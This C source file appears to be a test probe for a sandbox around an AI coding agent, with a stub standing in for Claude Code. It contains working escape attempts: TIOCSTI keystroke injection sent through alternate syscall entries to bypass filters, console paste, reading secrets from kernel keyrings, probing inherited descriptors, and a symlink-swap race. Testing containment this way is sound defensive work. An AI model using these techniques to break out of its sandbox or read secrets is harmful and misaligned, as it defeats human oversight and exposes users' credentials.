/* The attacks that a shell cannot make: system calls on terminals, keyrings and descriptors.
   Built statically, so that it runs in any sandbox that lets a file of the project be executed.
   Each subcommand prints one line an attempt, "NAME RESULT"; RESULT is "done" or the name of the error. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "i386.h"

#define SESSION (-3L)
#define USER (-4L)
#define USER_SESSION (-5L)
#define KEYCTL_JOIN 1
#define KEYCTL_SETPERM 5
#define KEYCTL_LINK 8
#define KEYCTL_SEARCH 10
#define KEYCTL_READ 11
#define KEYCTL_SET_TIMEOUT 15

static const char *result(long value) { return value >= 0 ? "done" : strerrorname_np(errno); }

/* The raw entry points. Each returns -1 with errno set, as syscall(2) does. */
static long enter_plain(long nr, long a, long b, long c) { return syscall(nr, a, b, c); }

#ifdef __x86_64__
static long enter_x32(long nr, long a, long b, long c) { return syscall(nr | 0x40000000L, a, b, c); }
#endif

static char byte;

/* Types the text and Enter into the terminal on stdin, as if the user had, by every entry the kernel may offer.
   The first entry that works stops the row: the text shall arrive once. */
static int type(const char *text) {
  struct {
    const char *name;
    long (*enter)(long, long, long, long);
    long nr, high;
  } ways[] = {
      {"plain", enter_plain, SYS_ioctl, 0},
      {"high-bits", enter_plain, SYS_ioctl, 1L << 32},
#ifdef __x86_64__
      {"x32", enter_x32, SYS_ioctl, 0},
      {"x32-own-number", enter_x32, 514, 0},
      {"i386", enter_i386, 54, 0},
#endif
  };
  for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
    long out = 0;
    for (size_t at = 0; at <= strlen(text) && out >= 0; at++) {
      byte = text[at] ? text[at] : '\n';
      out = ways[i].enter(ways[i].nr, 0, TIOCSTI | ways[i].high, (long)&byte);
    }
    printf("type %s %s\n", ways[i].name, result(out));
    if (out >= 0) return 0;
  }
  return 0;
}

/* TIOCLINUX pastes the selection of a virtual console. No pseudo-terminal has it: there the driver itself answers ENOTTY, which shows that
   the call got as far as the driver. */
static int paste(void) {
  static char subcode = 3;
  printf("paste plain %s\n", result(enter_plain(SYS_ioctl, 0, TIOCLINUX, (long)&subcode)));
  printf("paste high-bits %s\n", result(enter_plain(SYS_ioctl, 0, TIOCLINUX | 1L << 32, (long)&subcode)));
#ifdef __x86_64__
  printf("paste i386 %s\n", result(enter_i386(54, 0, TIOCLINUX, (long)&subcode)));
#endif
  return 0;
}

/* Looks for the key by its name in every keyring a process can start from, and prints what it holds. */
static int search(const char *name) {
  struct {
    const char *name;
    long id;
  } rings[] = {{"session", SESSION}, {"user", USER}, {"user-session", USER_SESSION}};
  static char value[4096];
  for (size_t i = 0; i < sizeof rings / sizeof *rings; i++) {
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i].id, "user", name, 0);
    long length = key < 0 ? key : syscall(SYS_keyctl, KEYCTL_READ, key, value, sizeof value - 1, 0);
    printf("keyring %s %s\n", rings[i].name, result(length));
    if (length >= 0) printf("%.*s\n", (int)length, value);
  }
  errno = 0;
  long asked = syscall(SYS_request_key, "user", name, 0, 0);
  printf("keyring request %s\n", result(asked));
  if (asked >= 0) {
    long length = syscall(SYS_keyctl, KEYCTL_READ, asked, value, sizeof value - 1, 0);
    if (length >= 0) printf("%.*s\n", (int)length, value);
  }
  return 0;
}

/* Lists what came in above stderr, and reads it: a file's start, and a directory's neighbour through "..". */
static int descriptors(void) {
  DIR *list = opendir("/proc/self/fd");
  if (!list) return 1;
  for (struct dirent *entry; (entry = readdir(list));) {
    int fd = atoi(entry->d_name);
    if (entry->d_name[0] == '.' || fd <= 2 || fd == dirfd(list)) continue;
    struct stat status;
    if (fstat(fd, &status)) continue;
    printf("descriptor %d %s\n", fd, S_ISDIR(status.st_mode) ? "directory" : S_ISREG(status.st_mode) ? "file" : "other");
  }
  return 0;
}

/* Gives the command a session keyring with a key in it, and two open descriptors, 7 a file and 8 a directory; then becomes the command. */
static int plant(char **args) {
  if (syscall(SYS_keyctl, KEYCTL_JOIN, 0, 0, 0) < 0) return perror("join"), 1;
  long key = syscall(SYS_add_key, "user", args[0], args[1], strlen(args[1]), SESSION);
  if (key < 0) return perror("add_key"), 1;
  /* Anybody may find and read it: what stops the reader must be the sandbox, not the key's mode. */
  if (syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f3f3fL, 0, 0) < 0) return perror("setperm"), 1;
  if (syscall(SYS_keyctl, KEYCTL_LINK, key, USER, 0, 0) < 0) return perror("link"), 1;
  /* The user's keyring outlives the test; the key must not. */
  if (syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, key, 600, 0, 0) < 0) return perror("timeout"), 1;
  int file = open(args[2], O_RDONLY), directory = open(args[3], O_RDONLY | O_DIRECTORY);
  if (file < 0 || directory < 0) return perror("open"), 1;
  if (dup2(file, 7) < 0 || dup2(directory, 8) < 0) return perror("dup2"), 1;
  if (file != 7) close(file);
  if (directory != 8) close(directory);
  execvp(args[4], args + 4);
  return perror(args[4]), 1;
}

/* Becomes the command where no user namespace can be made, as on a system that forbids them to ordinary programs. */
static int no_namespaces(char **args) {
  struct sock_filter filter[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone3, 4, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 1, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone, 0, 4),
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
      BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, CLONE_NEWUSER, 1, 2),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS), /* the C library then falls back to clone */
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog program = {sizeof filter / sizeof *filter, filter};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) return perror("no_new_privs"), 1;
  if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program)) return perror("seccomp"), 1;
  execvp(args[0], args);
  return perror(args[0]), 1;
}

/* Stands for Claude Code where a test only wants to know what it is started with. */
static int claude(char **args) {
  while (*++args) printf("<%s>\n", *args);
  return 9;
}

/* Exchanges directories with links to other ones, again and again until it is killed: pairs of a directory and a target. How often, it counts
   in a file, in binary. */
static int swap(const char *counter, char **pairs) {
  char others[8][4096];
  int file = open(counter, O_RDWR | O_CREAT, 0644);
  if (file < 0 || ftruncate(file, sizeof(long))) return perror(counter), 1;
  volatile long *count = mmap(NULL, sizeof(long), PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (count == MAP_FAILED) return perror("mmap"), 1;
  int many = 0;
  for (; pairs[2 * many] && many < 8; many++) {
    snprintf(others[many], sizeof others[many], "%s.other", pairs[2 * many]);
    if (symlink(pairs[2 * many + 1], others[many])) return perror(others[many]), 1;
  }
  puts("swapping");
  fflush(stdout);
  for (;;) {
    for (int i = 0; i < many; i++) {
      if (renameat2(AT_FDCWD, pairs[2 * i], AT_FDCWD, others[i], RENAME_EXCHANGE)) return perror("exchange"), 1;
      ++*count;
    }
    /* Longer and shorter pauses, so that each moment of a start is met. */
    struct timespec pause = {0, 20000 + rand() % 200000};
    nanosleep(&pause, NULL);
  }
}

int main(int argc, char **argv) {
  if (!strcmp(basename(argv[0]), "claude")) return claude(argv);
  if (argc > 2 && !strcmp(argv[1], "no-namespaces")) return no_namespaces(argv + 2);
  if (argc == 3 && !strcmp(argv[1], "type")) return type(argv[2]);
  if (argc == 2 && !strcmp(argv[1], "paste")) return paste();
  if (argc == 3 && !strcmp(argv[1], "keyring")) return search(argv[2]);
  if (argc == 2 && !strcmp(argv[1], "descriptors")) return descriptors();
  if (argc > 6 && !strcmp(argv[1], "plant")) return plant(argv + 2);
  if (argc > 4 && argc % 2 && !strcmp(argv[1], "swap")) return swap(argv[2], argv + 3);
  fprintf(stderr, "usage: attack swap COUNTER (DIRECTORY TARGET)... | type TEXT | paste | keyring NAME | descriptors | plant KEY VALUE FILE DIRECTORY COMMAND... | no-namespaces COMMAND...\n");
  return 2;
}
